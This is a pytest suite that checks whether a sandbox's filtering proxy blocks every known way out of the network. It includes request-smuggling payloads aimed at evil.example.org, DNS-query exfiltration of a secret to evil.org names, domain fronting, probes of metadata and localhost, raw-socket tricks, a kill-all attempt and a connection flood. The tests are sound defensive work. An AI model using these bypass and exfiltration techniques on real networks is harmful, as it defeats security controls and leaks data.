"""Out of the network by name: every way that is known to lead past a filtering proxy, judged by what the far end saw.

The servers are in another namespace (helpers/internet.py) and stand at forbidden addresses too: what gets past cloche
would be answered. An attack counts as stopped when no packet, no request, no query of a name and no connection to the
host arrived that the rules do not open, whatever the sandbox was told.

Spellings of addresses and hosts, what names lead to, smuggled requests, tunnels, SOCKS and TLS are rows of the corpus
(test_corpus.py). Here is what asks more than whether it arrived. One sandbox tries all cases of a test, beside each other.
"""
import json
import subprocess

import pytest

from helpers import requirement
from helpers.internet import DNS4, ECHO, FORBIDDEN4, FORBIDDEN6, HOST4, HOST6, OTHER4, PRELUDE, SITE4, SITE6
from helpers.runner import wait_for

pytestmark = [requirement("R13", "R14", "R44"), pytest.mark.root]
OK = "ok.example.org"
SITE = {(6, SITE4, 80), (6, SITE4, 443)}
ENDS = "\nprint('done')"


def only(online, result, reached=(), asked=(), hosts=()):
    """The far end saw nothing but that; the attack ran to its end."""
    assert result.ok and "done" in result.out, result
    net = online.net
    assert net.reached() <= set(reached), (net.reached(), result)
    assert net.asked() <= set(asked), (net.asked(), result)
    assert {r["host"] for r in net.requests} <= set(hosts), (net.requests, result)
    assert not net.host_hits, (net.host_hits, result)


AT_ONCE = """
import threading
def at_once(f, cases):
    threads = [threading.Thread(target=f, args=(c,)) for c in cases]
    for t in threads: t.start()
    for t in threads: t.join()
"""

# Tries every way to reach HOST:PORT that there is, beside each other. What it prints is for the reader of a failure.
EVERY_WAY = AT_ONCE + """
def every_way(host, port=80):
    raw = host.encode('latin-1'); lit = '[%s]' % host if ':' in host and '[' not in host else host
    ways = []
    def way(name, f): ways.append((name, f))
    def attempt(way):
        name, f = way
        try: print(name, f()[:70])
        except Exception as e: print(name, type(e).__name__, e)
    at = '' if port == 80 else ':%d' % port
    line = lambda t, h: f'GET {t} HTTP/1.1\\r\\nHost: {h}\\r\\n{CLOSE}\\r\\n'.encode('latin-1')
    way('absolute', lambda: talk(P, line(f'http://{lit}{at}/x', lit + at)))
    way('absolute, allowed Host', lambda: talk(P, line(f'http://{lit}{at}/x', 'ok.example.org')))
    def tunnel():
        s = dial(*P); s.sendall(f'CONNECT {lit}:{port} HTTP/1.1\\r\\nHost: ok.example.org\\r\\n\\r\\n'.encode('latin-1'))
        got = until(s)
        if b' 200 ' in got: s.sendall(line('/x', lit)); got += drain(s)
        return got
    way('connect', tunnel)
    def by_socks():
        s, got = socks(3, bytes([len(raw) & 255]) + raw, port=port)
        if got[:2] == b'\\5\\0': s.sendall(line('/x', lit)); got += drain(s)
        return got
    way('socks', by_socks)
    def straight():
        s = socket.create_connection((host, port), 3); s.sendall(line('/x', lit)); return drain(s)
    way('straight', straight)
    def host_field():
        s = socket.create_connection(('ok.example.org', 80), 3); s.sendall(line('/x', lit)); return drain(s)
    way('host field', host_field)
    at_once(attempt, ways)
"""

# --- (a) spellings of addresses -----------------------------------------------------------------------------------------

# Of an address that a rule names.
SPELLINGS = ["1572395042", "0x5db8d822", "93.12114978", "0135.0270.0330.042", "::ffff:93.184.216.34", "64:ff9b::5db8:d822",
             "2002:5db8:d822::1", "::93.184.216.34"]


def test_the_spellings_are_real(online):
    """What the corpus spells is what curl takes too."""
    spelled = ["127.1", "2130706433", "0x7f.1", "[::ffff:127.0.0.1]", "0"]
    result = online.host(["/usr/bin/curl", "-sS", "-g", "--http0.9", *(f"http://{host}:8123/" for host in spelled)])
    assert result.out == "host service\n" * len(spelled) and len(online.net.host_hits) == len(spelled), result


def test_other_spellings_of_an_allowed_address_open_nothing_else(online):
    """If at all, they lead to that address and carry its name."""
    result = online.python(EVERY_WAY + f"at_once(every_way, {SPELLINGS!r})" + ENDS, allow=[SITE4])
    only(online, result, reached=[(6, SITE4, 80)], hosts=[SITE4])


# --- (b) classes of addresses, as what an allowed name resolves to ---------------------------------------------------------

def test_forbidden_addresses_answer_without_the_wall(online):
    names = {f"bad{i}.example.org": address for i, address in enumerate((*FORBIDDEN4, *FORBIDDEN6))}
    for name, address in names.items():
        online.net.names[name] = [("AAAA" if ":" in address else "A", address)]
    result = online.host(["/usr/bin/curl", "-sS", "--max-time", "5", *(f"http://{name}/" for name in names)])
    assert result.out == "".join(f"hello {name} /\n" for name in names), result


CLOSED = ["127.0.0.1", "::1", "169.254.169.254", "0.0.0.0", HOST4, HOST6, "168.63.129.16", "100.100.100.200", "fd00:ec2::254",
          "localhost", "metadata.google.internal", "x.localhost", "198.18.0.1"]


def test_some_are_closed_even_when_a_rule_names_them(online, tmp_path):
    online.net.names["metadata.google.internal"] = online.net.names["x.localhost"] = [("A", SITE4)]
    rules = [f"[{address}]" if ":" in address else address for address in CLOSED]
    # in a file: on a command line such a rule is refused (R13)
    settings = tmp_path / "closed.json"
    settings.write_text(json.dumps({
        "network": {"allowedDomains": [rule + port for rule in rules for port in ("", ":8123", ":3128")], "deniedDomains": []},
        "filesystem": {"denyRead": [], "allowWrite": [], "denyWrite": []}}), encoding="ascii")
    result = online.python(EVERY_WAY + f"at_once(lambda address: every_way(address, 8123), {CLOSED!r})" + ENDS,
                           flags=["--settings", settings, "--view", "private"])
    only(online, result, asked=[OK])


# --- (d) what is said to the proxy ------------------------------------------------------------------------------------------

A, X = b"http://ok.example.org/", b"GET /smuggled HTTP/1.1\r\nHost: evil.example.org\r\n\r\n"
H = b"Host: ok.example.org\r\n"
RAW = {
    "pipelined second request": b"GET " + A + b" HTTP/1.1\r\n" + H + b"\r\n" + X,
    "pipelined absolute": b"GET " + A + b" HTTP/1.1\r\n" + H + b"\r\nGET http://evil.example.org/smuggled HTTP/1.1\r\n\r\n",
    "behind a length": b"POST " + A + b" HTTP/1.1\r\n" + H + b"Content-Length: 4\r\n\r\nbody" + X,
    "behind a chunked body": b"POST " + A + b" HTTP/1.1\r\n" + H +
                             b"Transfer-Encoding: chunked\r\n\r\n4\r\nbody\r\n0\r\n\r\n" + X,
    "length zero": b"POST " + A + b" HTTP/1.1\r\n" + H + b"Content-Length: 0\r\n\r\n" + X,
    "upgrade": b"GET " + A + b" HTTP/1.1\r\n" + H + b"Connection: Upgrade\r\nUpgrade: h2c\r\n\r\n" + X,
    "websocket": b"GET " + A + b" HTTP/1.1\r\n" + H + b"Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n" + X,
    "get with a body": b"GET " + A + b" HTTP/1.1\r\n" + H + b"Content-Length: %d\r\n\r\n" % len(X) + X,
    "host is another": b"GET " + A + b" HTTP/1.1\r\nHost: evil.example.org\r\n\r\n",
    "expect": b"POST " + A + b" HTTP/1.1\r\n" + H + b"Expect: 100-continue\r\nContent-Length: 2\r\n\r\nab" + X,
}
# The bytes to the proxy, and (in origin form) to port 80 of the allowed name's address and into a tunnel. A connection
# that is kept open says nothing at its end: a second later it is over.
EVERYWHERE = AT_ONCE + """
def everywhere(data):
    inner = data.replace(b'http://ok.example.org/', b'/')
    def attempt(f):
        try: print(f()[:60])
        except OSError as e: print(e)
    def tunnel():
        s, got = connect('ok.example.org:80'); s.sendall(inner); return drain(s, 1)
    def halves():
        s = dial(*P)
        for i in range(0, min(len(data), 200)): s.sendall(data[i:i + 1])
        s.sendall(data[200:]); return drain(s, 1)
    at_once(attempt, [lambda: talk(P, data, 1), lambda: talk((socket.gethostbyname('ok.example.org'), 80), inner, 1), tunnel,
                      halves])
"""


def test_one_request_and_no_second(online):
    """Each case has its own path: what the servers got is that of a case, and never the one hidden in it."""
    cases = {f"/{i}": data.replace(A, A + b"%d" % i) for i, data in enumerate(RAW.values())}
    result = online.python(EVERYWHERE + f"at_once(everywhere, {[*cases.values()]!r})" + ENDS)
    only(online, result, reached=[(6, SITE4, 80)], asked=[OK], hosts=[OK])
    assert {r["path"] for r in online.net.requests} <= set(cases), online.net.requests
    for request in online.net.requests:
        names = {name for name, _ in request["headers"]}
        assert not names & {"proxy-authorization", "proxy-connection"}, request
        assert "upgrade" not in names or request["path"] == f"/{[*RAW].index('websocket')}", request


def test_a_body_that_the_server_overlooks_is_no_second_request(online):
    """The server answers and leaves the body where it looks for the next request."""
    result = online.python(AT_ONCE + f"""
def overlooked(method):
    s = dial(*P); s.sendall(method.encode() + b' {A.decode()} HTTP/1.1\\r\\n' + {H!r} + b'Content-Length: %d\\r\\n\\r\\n' % {len(X)} + {X!r})
    s.sendall(b'GET {A.decode()} HTTP/1.1\\r\\n' + {H!r} + b'\\r\\n'); print(drain(s, 1)[:60])
at_once(overlooked, ('GET', 'HEAD', 'OPTIONS', 'DELETE'))
""" + ENDS)
    only(online, result, reached=[(6, SITE4, 80)], asked=[OK], hosts=[OK])
    assert {r["path"] for r in online.net.requests} == {"/"}, online.net.requests


# Says it, and no more: the answer ends when the other side is done.
FINAL = """
def final(where, data):
    with dial(*where) as s:
        s.sendall(data); s.shutdown(socket.SHUT_WR); return drain(s)
"""


def test_a_second_request_is_real_without_the_wall(online):
    two = b"GET / HTTP/1.1\r\n" + H + b"\r\n" + X
    result = online.host_python(FINAL + f"print(final(({SITE4!r}, 80), {two!r}))")
    assert [r["path"] for r in online.net.requests] == ["/", "/smuggled"], result


def test_fields_for_the_proxy_stay_there(online):
    fields = (b"Proxy-Authorization: Basic c2VjcmV0\r\nProxy-Connection: keep-alive\r\nConnection: X-Hop, keep-alive\r\n"
              b"X-Hop: secret\r\nKeep-Alive: timeout=9\r\nTE: trailers\r\nX-End: kept\r\n\r\n")
    result = online.python(FINAL + f"print(final(P, {b'GET ' + A + b' HTTP/1.1' + bytes([13, 10]) + H + fields!r}))" + ENDS)
    only(online, result, reached=SITE, asked=[OK], hosts=[OK])
    names = {name for name, _ in online.net.requests[0]["headers"]}
    assert "x-end" in names and not names & {"proxy-authorization", "proxy-connection", "x-hop", "keep-alive", "te"}, names


# --- (e) TLS -------------------------------------------------------------------------------------------------------------------

def test_domain_fronting_by_a_real_client(online):
    """An allowed name in the ClientHello of a connection to a denied one's address, and the other way round."""
    code = """
for where in ('93.184.216.34', '93.184.216.35'):
    for name in ('ok.example.org', 'evil.example.org'):
        try: print(where, name, tls(dial(where, 443), name).version())
        except OSError as e: print(where, name, type(e).__name__)
for name in ('evil.example.org', None):
    for c in (lambda: connect('ok.example.org:443')[0], lambda: dial(socket.gethostbyname('ok.example.org'), 443)):
        try: print(name, tls(c(), name).version() if name else ssl._create_unverified_context().wrap_socket(c()).version())
        except (OSError, ValueError) as e: print(name, type(e).__name__)
""" + ENDS
    result = online.python(code)
    only(online, result, reached=[(6, SITE4, 443)], asked=[OK])
    assert not online.net.hellos and "TLS" not in result.out.replace("SSL", ""), result


# --- (f) DNS -------------------------------------------------------------------------------------------------------------------

def alternating(*answers):
    """Each lookup (A and AAAA are one) gets the next answer; the last one stays."""
    state = {"n": 0}

    def give():
        i = min(state["n"] // 2, len(answers) - 1)
        state["n"] += 1
        return [("AAAA" if ":" in a else "A", a) for a in answers[i]]
    return give


def test_what_was_checked_is_what_is_dialled(online):
    """One lookup to a connection: there is no second answer between the check and the use."""
    online.net.names["re.example.org"] = alternating([SITE4], ["10.0.0.5"])
    result = online.python("print(talk(P, get('re.example.org', 'http://re.example.org/', CLOSE)))" + ENDS, allow=["re.example.org"])
    only(online, result, reached=[(6, SITE4, 80)], asked=["re.example.org"], hosts=["re.example.org"])
    assert sorted(k for _, k in online.net.queries) == ["A", "AAAA"] and len(online.net.requests) == 1


@pytest.mark.parametrize("allow", [[OK], ["*.example.org"], ["**.example.org"]], ids="".join)
def test_no_data_leaves_in_queries(online, allow):
    """Lookups alone carry nothing out: denied names are answered here, allowed ones when they are connected to."""
    code = """
secret = 'c2VjcmV0'
for i in range(40):
    for name in ('%s%d.evil.org' % (secret, i), '%s%d.example.org' % (secret, i), secret * 7 + '.evil.org'):
        for kind in (1, 28, 16, 65, 255, 10): ask(name, kind, ['8.8.8.8', '93.184.216.53', '198.18.0.1'][i % 3])
with dial('93.184.216.53', 53) as s:
    q = question(secret + '.evil.org', 16); s.sendall(struct.pack('>H', len(q)) + q); s.recv(99)
for bad in (b'', b'\\0' * 11, b'\\0' * 12, question('a.evil.org')[:-3], question(b'\\xc0\\x0c'), question(b'\\x3f' + b'a' * 20),
            question(b'\\x40aaa\\0'), question('a.evil.org') * 2, bytes(1400), question('x')[:2] + b'\\x84\\0' + question('x')[4:]):
    s = socket.socket(2, 2); s.sendto(bad, ('8.8.8.8', 53))
print(summary(ask('ok.example.org'))[0])
""" + ENDS
    result = online.python(code, allow=allow)
    only(online, result)
    assert result.out.startswith("0\n"), result


def test_queries_leave_without_the_wall(online):
    online.host_python(f"ask('c2VjcmV0.evil.org', 1, {DNS4!r})")
    assert "c2VjcmV0.evil.org".lower() in online.net.asked()


def test_denied_names_are_not_looked_up_for_any_protocol(online):
    hosts = ("secret.evil.org", "dns.google", "cloudflare-dns.com", "evil.example.org")
    tried = [(host, port) for host in hosts for port in (80, 443, 853)]
    result = online.python(EVERY_WAY + f"at_once(lambda where: every_way(*where), {tried!r})" + ENDS)
    only(online, result, reached=[(6, SITE4, 80), (6, SITE4, 443)], asked=[OK], hosts=[])


# --- other protocols and ports ------------------------------------------------------------------------------------------------

TARGETS = [SITE4, OTHER4, DNS4, "10.0.0.5", "169.254.169.254", HOST4, SITE6, "fd12::5", HOST6]


def test_direct_connections(online):
    code = f"""
def direct(host):
    for port in (22, 25, 53, 80, 443, 853, 3128, 1080, 7777, 8080, 8123, 8443):
        for data in (b'', get(host, '/smuggled')):
            try:
                with dial(host, port, 2) as s: s.sendall(data); print(port, drain(s, .2)[:40] if data else '')
            except OSError as e: print(port, errno.errorcode.get(e.errno, e))
at_once(direct, {TARGETS!r})
""" + ENDS
    result = online.python(AT_ONCE + code)
    only(online, result)
    assert "SSH-2.0" not in result.out and "host service" not in result.out and "hello" not in result.out


def test_datagrams(online):
    """QUIC, NTP, mDNS, syslog, DTLS, anything: also over a connected socket, and with many calls."""
    code = f"""
def datagrams(host):
    for port in (443, 80, 123, 514, 1900, 5353, 4433, 33434, 8123, 7777, 3128):
        s = socket.socket(family(host), socket.SOCK_DGRAM); s.settimeout(.05)
        for f in (lambda: s.sendto(b'QUIC' + bytes(1200), (host, port)), lambda: s.connect((host, port)),
                  lambda: s.send(b'x'), lambda: s.setsockopt(1, 6, 1), lambda: s.sendto(b'x', (host, port))):
            try: f()
            except OSError as e: pass
        try: print('ANSWER', s.recv(100))
        except OSError: pass
at_once(datagrams, {[*TARGETS, "255.255.255.255", "224.0.0.251", "ff02::fb", "8.8.8.8"]!r})
""" + ENDS
    result = online.python(AT_ONCE + code)
    only(online, result)
    assert "ANSWER" not in result.out, result


OTHERS = {
    "ping socket": f"s = socket.socket(2, 2, 1); s.sendto(b'\\x08\\0\\0\\0\\0\\1\\0\\1', ('{SITE4}', 0))",
    "raw ICMP": f"s = socket.socket(2, 3, 1); s.sendto(b'\\x08\\0\\xf7\\xfe\\0\\1\\0\\0', ('{SITE4}', 0))",
    "raw IP": f"s = socket.socket(2, 3, 255); s.sendto(bytes(40), ('{SITE4}', 0))",
    "ping 6": f"s = socket.socket(10, 2, 58); s.sendto(b'\\x80\\0\\0\\0\\0\\1\\0\\1', ('{SITE6}', 0))",
    "packet": "s = socket.socket(17, 3, 768); s.bind(('lo', 0)); s.send(bytes(64))",
    "SCTP": f"s = socket.socket(2, 1, 132); s.connect(('{SITE4}', 80))",
    "DCCP": f"s = socket.socket(2, 6, 33); s.connect(('{SITE4}', 80))",
    "UDP-Lite": f"s = socket.socket(2, 2, 136); s.sendto(b'x', ('{SITE4}', 53))",
    "MPTCP": f"s = socket.socket(2, 1, 262); s.settimeout(1); s.connect(('{SITE4}', 8080))",
    "TCP fast open": f"s = socket.socket(); s.settimeout(1); s.sendto(b'x', 0x20000000, ('{SITE4}', 8080))",
    "source routing": f"s = socket.socket(); s.setsockopt(0, 4, bytes([131, 7, 4, 93, 184, 216, 34])); s.connect(('{SITE4}', 8080))",
    "bind to device": f"s = socket.socket(); s.setsockopt(1, 25, b'near'); s.connect(('{SITE4}', 80))",
    "mark": f"s = socket.socket(); s.setsockopt(1, 36, 1); s.connect(('{SITE4}', 8080))",
    "transparent": f"s = socket.socket(); s.setsockopt(0, 19, 1); s.bind(('{HOST4}', 5555)); s.connect(('{SITE4}', 8080))",
    "abstract": "s = socket.socket(1); s.connect('\\0' + ABSTRACT); print('REACHED', s.recv(20))",
    "vsock": "s = socket.socket(40, 1); s.settimeout(1); s.connect((2, 22))",
    "route": "s = socket.socket(16, 3, 0); s.bind((0, 0)); s.send(struct.pack('IHHIIBBBBBBBBI', 28, 25, 5, 1, 0, 2, 0, 0, 0, "
             "255, 2, 253, 2, 0)); e = struct.unpack_from('i', s.recv(999), 16)[0]; print('CHANGED' if e == 0 else e)",
}


@requirement("R12")
def test_other_protocols(online):
    code = f"""
ABSTRACT = {online.net.abstract!r}
def other(case):
    name, words = case
    try: exec(words, dict(globals())); print(name, 'sent')
    except OSError as e: print(name, e)
    except Exception as e: print('WRONG', name, type(e).__name__, e)
at_once(other, {[*OTHERS.items()]!r})
""" + ENDS
    result = online.python(AT_ONCE + code)
    only(online, result)
    assert "REACHED" not in result.out and "CHANGED" not in result.out and "WRONG" not in result.out, result
    assert all(f"{name} " in result.out for name in OTHERS), result


def test_those_arrive_without_the_wall(online):
    online.host_python(f"""
s = socket.socket(2, 2); s.sendto(b'QUIC', ('{SITE4}', 443)); s.sendto(b'x', ('10.0.0.5', 514))
s = socket.socket(2, 3, 1); s.sendto(b'\\x08\\0\\xf7\\xfe\\0\\1\\0\\0', ('{SITE4}', 0))
print(dial('{SITE4}', 22).recv(20), dial('127.0.0.1', {online.net.host_port}).recv(20))
s = socket.socket(1); s.connect('\\0{online.net.abstract}')
""")
    assert {(17, SITE4, 443), (17, "10.0.0.5", 514), (1, SITE4, 0), (6, SITE4, 22)} <= online.net.reached()
    assert len(online.net.host_hits) == 2


# --- sandboxes beside each other ------------------------------------------------------------------------------------------------

LISTEN = """
s = socket.create_server(('0.0.0.0', 9999)); t = socket.create_server(('::', 9998), family=socket.AF_INET6)
u = socket.socket(socket.AF_UNIX); u.bind('\\0between'); u.listen(3)
print(socket.gethostbyname('b.example.org'), flush=True); sys.stdin.readline()
s.settimeout(.1)
try: s.accept(); print('VISITED')
except OSError: print('alone')
"""


@requirement("R12")
def test_two_sandboxes_do_not_reach_each_other(online):
    first = online.popen(["/usr/bin/python3", "-I", "-S", "-c", PRELUDE + LISTEN], allow=["b.example.org"], stdin=subprocess.PIPE)
    fake = first.stdout.readline().decode().strip()
    code = EVERY_WAY + f"""
def knock(place):
    host, port = place
    for where in (P, S):
        try: print(talk(where, b'CONNECT %s:%d HTTP/1.1\\r\\n\\r\\n' % (host.encode(), port), 1)[:40])
        except OSError as e: print(e)
    try: print('closed' if drain(dial(host, port, 1), 1)[:1] in (b'', b'<') else 'REACHED')
    except OSError as e: print(e)
hosts = ('127.0.0.1', '0.0.0.0', '198.18.0.1', {fake!r}, '::1', {HOST4!r})
at_once(knock, [(host, port) for host in hosts for port in (9999, 9998)])
every_way({fake!r}, 80)
s = socket.socket(socket.AF_UNIX)
try: s.connect('\\0between'); print('REACHED')
except OSError as e: print(e)
""" + ENDS
    rules = [OK, *(f"{a}:{p}" for a in ("198.18.0.1", fake) for p in (9999, 3128, 1080))]
    second = online.python(code, allow=rules)
    out, err = first.communicate(b"\n", timeout=30)
    assert b"alone" in out and "REACHED" not in second.out, (out, err, second)
    only(online, second, asked=[OK])


def test_each_has_its_own_rules(online):
    first = online.popen(["/usr/bin/python3", "-I", "-S", "-c", PRELUDE + "print('up', flush=True); sys.stdin.readline()"],
                         allow=["b.example.org"], stdin=subprocess.PIPE)
    assert first.stdout.readline() == b"up\n"
    result = online.python(EVERY_WAY + "every_way('b.example.org')" + ENDS)
    first.communicate(b"\n", timeout=30)
    only(online, result, asked=[OK])


def test_the_sandbox_does_not_see_or_stop_its_keeper(online):
    code = """
seen = [open('/proc/%s/comm' % p).read().strip() for p in os.listdir('/proc') if p.isdigit()]
print('SEEN' if any('egress' in c for c in seen) else 'none')
try: os.kill(-1, 9)
except OSError: pass
""" + ENDS
    result = online.python(code)
    assert "SEEN" not in result.out and "none" in result.out, result


def test_a_flood_of_connections_is_survived(online):
    code = """
import resource; resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
held = []
try:
    for i in range(6000): held.append(dial(*P, 1))
except OSError as e: print(len(held), e)
for s in held: s.close()
for i in range(100):        # until those are over
    try: got = talk(P, get('ok.example.org', 'http://ok.example.org/after', CLOSE))
    except OSError as e: got = b''
    if b' 200 ' in got: break
    time.sleep(.05)
print(got)
""" + ENDS
    result = online.python(code)
    only(online, result, reached=SITE, asked=[OK], hosts=[OK])
    assert wait_for(lambda: [r["path"] for r in online.net.requests] == ["/after"]), result


def test_the_report_names_what_was_tried(online):
    result = online.run(["/usr/bin/python3", "-I", "-S", "-c", PRELUDE + EVERY_WAY + "every_way('evil.example.org')"],
                        flags=["--json"])
    report = json.loads(result.out)
    assert any(d["target"].startswith("evil.example.org") for d in report["denied"]), report["denied"]


def test_a_tunnel_to_an_allowed_port_is_that_port_alone(online):
    code = f"""
for port in (22, 80, 443, 8080, {ECHO + 1}):
    print(connect('ok.example.org:%d' % port)[1][:20])
print(connect('ok.example.org:{ECHO}')[1][:20])
""" + ENDS
    result = online.python(code, allow=[f"ok.example.org:{ECHO}"])
    only(online, result, reached=[(6, SITE4, ECHO)], asked=[OK])
    assert result.out.count(" 403") == 5 and result.out.count(" 200") == 1, result
